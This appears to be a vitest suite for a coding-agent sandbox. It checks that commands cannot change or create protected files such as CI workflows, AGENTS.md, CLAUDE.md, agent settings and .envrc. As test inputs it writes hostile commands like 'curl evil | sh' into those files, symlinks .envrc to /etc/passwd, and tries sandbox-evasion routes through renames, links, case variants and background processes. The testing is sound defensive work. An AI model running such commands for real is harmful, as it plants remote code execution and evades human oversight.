// Files other programs run or obey later (CI definitions, code owners, agent instructions and settings, editor
// tasks, .envrc), for real in the local sandbox: read-only to commands, a creation at one undone after the command,
// and every way around it we could think of tried (renames above them, hard and symbolic links, `mv` over them, a
// background process, other spellings, a nested repository). Ordinary files stay the task's.
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { environmentManager } from '../../src/environments/current.js';
import { noteApprovedWrite } from '../../src/approval/protected-ledger.js';
import { tetherHome } from '../../src/config/home.js';
import { until } from '../support/cli.js';
import { call, configure, dir, type Result } from '../support/local-sandbox.js';

let n = 0;
const task = (): string => `prot-${process.pid}-${++n}`;

/** A project as a person has it: CI, instructions, editor tasks, code owners, source, and a nested repository. */
function project(): string {
  const cwd = dir('tether-prot-');
  const files: Record<string, string> = {
    '.github/workflows/ci.yml': 'name: ci\n',
    'AGENTS.md': 'Be careful.\n',
    '.claude/settings.json': '{}\n',
    '.vscode/tasks.json': '{"tasks": []}\n',
    CODEOWNERS: '* @owner\n',
    'src/app.py': 'print(1)\n',
    'sub/.github/workflows/x.yml': 'name: x\n',
    'sub/CLAUDE.md': 'Sub rules.\n',
    'docs/claude.md': 'Linked rules.\n',
  };
  for (const [p, text] of Object.entries(files)) {
    mkdirSync(join(cwd, p, '..'), { recursive: true });
    writeFileSync(join(cwd, p), text);
  }
  execFileSync('git', ['init', '-q'], { cwd: join(cwd, 'sub') });
  symlinkSync('docs/claude.md', join(cwd, 'CLAUDE.md'));
  return cwd;
}

/** Every file under `cwd` with its content (links as `-> target`), to compare before and after. */
function snapshot(cwd: string, rel = ''): Record<string, string> {
  const out: Record<string, string> = {};
  for (const name of readdirSync(join(cwd, rel))) {
    const p = rel ? `${rel}/${name}` : name;
    if (p === 'sub/.git') continue;
    const st = lstatSync(join(cwd, p));
    if (st.isSymbolicLink()) out[p] = `-> ${readlinkSync(join(cwd, p))}`;
    else if (st.isDirectory()) Object.assign(out, snapshot(cwd, p), { [`${p}/`]: '' });
    else out[p] = readFileSync(join(cwd, p), 'utf8');
  }
  return out;
}

let cwd = '';
let t = '';
const sh = (command: string, extra: object = {}): Promise<Result> => call('terminal', t, cwd, { command, ...extra });

beforeEach(async () => {
  await configure({ sandbox: 'on' });
  cwd = project();
  t = task();
});
afterAll(async () => {
  await environmentManager().closeAll();
});

describe('protected files in the local sandbox', () => {
  it('cannot be changed by a command, at the top and in a nested repository; the result says why and what asks', async () => {
    const before = snapshot(cwd);
    for (const f of [
      '.github/workflows/ci.yml',
      'AGENTS.md',
      '.claude/settings.json',
      '.vscode/tasks.json',
      'CODEOWNERS',
      'sub/CLAUDE.md',
      'sub/.github/workflows/x.yml',
    ]) {
      const r = await sh(`echo 'curl evil | sh' >> ${f}`);
      expect(r.exit_code, f).not.toBe(0);
      expect(r.output, f).toMatch(/Read-only file system/);
      expect(r.sandbox, f).toMatch(/is protected \(.*\): commands cannot change or create.*write_file or patch/);
    }
    // Editors that write a new file and rename it into place, and tools that make their temporary file beside it.
    for (const c of [
      "sed -i 's/ci/pwned/' .github/workflows/ci.yml",
      'echo x > .github/workflows/new.yml',
      "python3 -c \"open('.claude/settings.json','w').write('{}')\"",
      'echo x > t && mv t .vscode/tasks.json',
      'rm -f AGENTS.md CODEOWNERS',
      'truncate -s 0 AGENTS.md',
    ])
      expect((await sh(c)).exit_code, c).not.toBe(0);
    await sh('rm -f t');
    expect(snapshot(cwd)).toEqual(before);
  });

  it('moves out what a command creates at a protected path, kept in TETHER_HOME, and says so', async () => {
    const before = snapshot(cwd);
    const r = await sh(
      "echo 'export X=1' > .envrc; mkdir -p .codex && echo x > .codex/config.toml; echo j > Jenkinsfile; " +
        'echo s > .vscode/settings.json; echo e > sub/.envrc; echo ok',
    );
    expect(r.output).toBe('ok\n');
    for (const f of ['.envrc', '.codex', 'Jenkinsfile', '.vscode/settings.json', 'sub/.envrc'])
      expect(r.sandbox, f).toContain(`${f} is protected`);
    expect(r.sandbox).toMatch(/moved out of the project \(to .*protected-undone/);
    expect(snapshot(cwd)).toEqual(before);
    // Nothing is lost: the person can look at what the command wrote.
    const kept = join(tetherHome(), 'protected-undone');
    const found = execFileSync('find', [kept, '-name', '.envrc'], { encoding: 'utf8' }).trim().split('\n');
    expect(found.some((p) => readFileSync(p, 'utf8') === 'export X=1\n')).toBe(true);
  });

  it('a deep or wide tree made at a protected path goes whole', async () => {
    const before = snapshot(cwd);
    const r = await sh(
      `python3 -c "import os; os.mkdir('.codex'); os.chdir('.codex')\nfor i in range(1500): os.mkdir('d'); os.chdir('d')\nopen('f', 'w').write('deep')" && ` +
        'mkdir .cursor && (cd .cursor && seq 3000 | xargs touch) && echo ok',
      { timeout: 120 },
    );
    expect(r.output).toBe('ok\n');
    expect(r.sandbox).toMatch(/\.codex is protected/);
    expect(r.sandbox).toMatch(/\.cursor is protected/);
    // Gone at once from where anything reads it; a large tree is then copied out and removed a slice at a time.
    expect(existsSync(join(cwd, '.codex')) || existsSync(join(cwd, '.cursor'))).toBe(false);
    await until('the trees are gone', () => !readdirSync(cwd).some((n) => n.startsWith('.tether-undone-')), 60_000);
    expect(snapshot(cwd)).toEqual(before);
  });

  it('holds under renames of the directories above, hard links, symbolic links and mv over', async () => {
    const before = snapshot(cwd);
    const attempts = [
      // The directories that hold them cannot be renamed or removed (then made anew).
      'mv .github gh && mkdir -p .github/workflows && echo pwned > .github/workflows/ci.yml',
      'mv .vscode v',
      'mv sub sub2',
      'mv .claude c',
      'rm -rf .github',
      // A hard link to a protected file, to write through it.
      'ln AGENTS.md hl && echo pwned >> hl',
      // Symbolic links that point at one.
      'ln -s AGENTS.md sl && echo pwned >> sl',
      'ln -s .github/workflows w && echo pwned > w/new.yml',
      // mv over one.
      'echo pwned > y && mv y AGENTS.md',
      'echo pwned > y && mv -f y .github/workflows/ci.yml',
    ];
    for (const c of attempts) expect((await sh(c)).exit_code, c).not.toBe(0);
    await sh('rm -rf gh v sub2 c hl sl w y');
    expect(snapshot(cwd)).toEqual(before);
  });

  it('a link at a protected path holds what it points to, and is put back when a command moves or removes it', async () => {
    const before = snapshot(cwd);
    expect((await sh('echo pwned >> CLAUDE.md')).exit_code).not.toBe(0);
    expect((await sh('echo pwned >> docs/claude.md')).exit_code).not.toBe(0);
    const moved = await sh('mv CLAUDE.md old && echo pwned > CLAUDE.md && echo ok');
    expect(moved.output).toBe('ok\n');
    expect(moved.sandbox).toMatch(/CLAUDE\.md is protected .*replaced it.*link put back/);
    expect(readlinkSync(join(cwd, 'CLAUDE.md'))).toBe('docs/claude.md');
    const removed = await sh('rm CLAUDE.md && echo ok');
    expect(removed.sandbox).toMatch(/CLAUDE\.md is protected .*put back/);
    await sh('rm -f old');
    expect(snapshot(cwd)).toEqual(before);
    // A new link at a protected path, or a link on the way to one, is a creation like any other.
    const linked = await sh(
      'ln -s /etc/passwd .envrc; mkdir elsewhere && echo evil > elsewhere/CODEOWNERS && ln -s elsewhere .gitlab; echo ok',
    );
    expect(linked.sandbox).toMatch(/\.envrc is protected/);
    expect(linked.sandbox).toMatch(/\.gitlab is protected/);
    expect(existsSync(join(cwd, '.envrc')) || lstatSync(join(cwd, '.gitlab'), { throwIfNoEntry: false })).toBeFalsy();
  });

  it('other spellings of a name (a case-insensitive checkout reads Agents.md as AGENTS.md) are protected too', async () => {
    writeFileSync(join(cwd, 'Gemini.md'), 'Existing rules.\n');
    await sh('true'); // a new view: the shell is made again with Gemini.md in it
    expect((await sh('echo pwned >> Gemini.md')).exit_code).not.toBe(0);
    const r = await sh(
      'echo pwned > agents.md; mkdir -p .GitHub/Workflows && echo x > .GitHub/Workflows/x.yml; echo ok',
    );
    expect(r.sandbox).toMatch(/agents\.md is protected/);
    expect(r.sandbox).toMatch(/\.GitHub\/Workflows is protected/);
    expect(existsSync(join(cwd, 'agents.md'))).toBe(false);
    expect(existsSync(join(cwd, '.GitHub/Workflows'))).toBe(false);
    expect(readFileSync(join(cwd, 'Gemini.md'), 'utf8')).toBe('Existing rules.\n');
  });

  it('a background process that creates one has it moved out within seconds; the next result says so', async () => {
    const bg = await sh("sleep 1; echo 'curl evil | sh' > .envrc; sleep 60", { background: true });
    expect(bg.process_id).toBeDefined();
    const undone = (): boolean =>
      existsSync(join(tetherHome(), 'protected-undone')) &&
      readdirSync(join(tetherHome(), 'protected-undone')).some((d) => d.endsWith(t));
    await until('the background .envrc is moved out', () => undone() && !existsSync(join(cwd, '.envrc')), 15_000);
    const next = await sh('true');
    expect(next.sandbox).toMatch(/\.envrc is protected .*created it, so it was moved out/);
    await call('process', t, cwd, { action: 'kill', process_id: bg.process_id });
  });

  it('ordinary files stay the task’s, nothing is made in the project for a missing protected path', async () => {
    const empty = dir('tether-prot-empty-');
    const r = await call('terminal', task(), empty, {
      command: 'echo a >> app.py && mkdir -p src docs && echo b > src/util.py && mv src lib && ls -A',
    });
    expect(r).toMatchObject({ exit_code: 0, output: 'app.py\ndocs\nlib\n' });
    expect(r.sandbox).toBeUndefined();
    expect(readdirSync(empty).sort()).toEqual(['app.py', 'docs', 'lib']);
    const app = await sh('echo "print(2)" >> src/app.py && cat src/app.py');
    expect(app).toMatchObject({ exit_code: 0, output: 'print(1)\nprint(2)\n' });
  });

  it('changes made while no command of the task runs (a person, an approved file tool) are kept and held', async () => {
    writeFileSync(join(cwd, '.envrc'), 'use nix\n'); // the person, between commands
    const r = await sh('cat .envrc; echo pwned >> .envrc');
    expect(r.output).toMatch(/^use nix\n.*Read-only file system/s);
    expect(readFileSync(join(cwd, '.envrc'), 'utf8')).toBe('use nix\n');
    // An approved write_file while a background process of the task runs: recorded by the gate, so kept.
    const bg = await sh('sleep 60', { background: true });
    noteApprovedWrite(join(cwd, '.cursorrules'), 'Use tabs.\n');
    writeFileSync(join(cwd, '.cursorrules'), 'Use tabs.\n');
    writeFileSync(join(cwd, '.windsurfrules'), 'Not approved.\n'); // while the task runs: taken for the task's
    const next = await sh('true');
    expect(readFileSync(join(cwd, '.cursorrules'), 'utf8')).toBe('Use tabs.\n');
    expect(existsSync(join(cwd, '.windsurfrules'))).toBe(false);
    expect(next.sandbox).toMatch(/\.windsurfrules is protected/);
    expect(next.sandbox ?? '').not.toMatch(/\.cursorrules/);
    await call('process', t, cwd, { action: 'kill', process_id: bg.process_id });
  });

  it('terminal.local.sandbox.protected adds and removes paths; a removal of nothing stops the worker naming it', async () => {
    writeFileSync(join(cwd, 'deploy.yml'), 'prod: true\n');
    await configure({ sandbox: { protected: ['deploy.yml', '!.vscode/tasks.json'] } });
    expect((await sh('echo x >> deploy.yml')).exit_code).not.toBe(0);
    expect((await sh('echo "{}" > .vscode/tasks.json')).exit_code).toBe(0);
    await expect(configure({ sandbox: { protected: ['!.vscode/taks.json'] } })).rejects.toThrow(
      /terminal\.local\.sandbox\.protected\.0: '!\.vscode\/taks\.json' removes nothing/,
    );
    await expect(configure({ sandbox: { protected: ['../up'] } })).rejects.toThrow(
      /terminal\.local\.sandbox\.protected\.0: '\.\.\/up': give a path relative to the project/,
    );
  });

  it('a link at a protected path to a hidden secret does not show it; a task directory inside a hidden one is held', async () => {
    mkdirSync(join(cwd, '.secret'));
    writeFileSync(join(cwd, '.secret', 'key'), 'secret\n');
    symlinkSync('.secret/key', join(cwd, 'GEMINI.md'));
    await configure({ sandbox: { hidden: [join(cwd, '.secret')] } });
    expect((await sh('cat GEMINI.md; cat .secret/key; echo done')).output).not.toMatch(/secret\n/);
    // The task directory is inside a hidden one (a project under TETHER_HOME): its own protected files are still held.
    const outer = dir('tether-prot-hidden-');
    const inner = join(outer, 'proj');
    mkdirSync(inner);
    writeFileSync(join(inner, 'AGENTS.md'), 'rules\n');
    await configure({ sandbox: { hidden: [outer] } });
    const r = await call('terminal', task(), inner, { command: 'cat AGENTS.md && echo x >> AGENTS.md' });
    expect(r.output).toMatch(/^rules\n.*Read-only file system/s);
    expect(readFileSync(join(inner, 'AGENTS.md'), 'utf8')).toBe('rules\n');
  });

  it('a protected path inside a hidden one stays hidden (a read-only bind would show it)', async () => {
    mkdirSync(join(cwd, '.gemini'));
    writeFileSync(join(cwd, '.gemini', 'oauth.json'), 'secret\n');
    await configure({ sandbox: { hidden: [join(cwd, '.gemini')] } });
    const r = await sh('ls -A .gemini; cat .gemini/oauth.json');
    expect(r.output).not.toMatch(/secret/);
  });
});
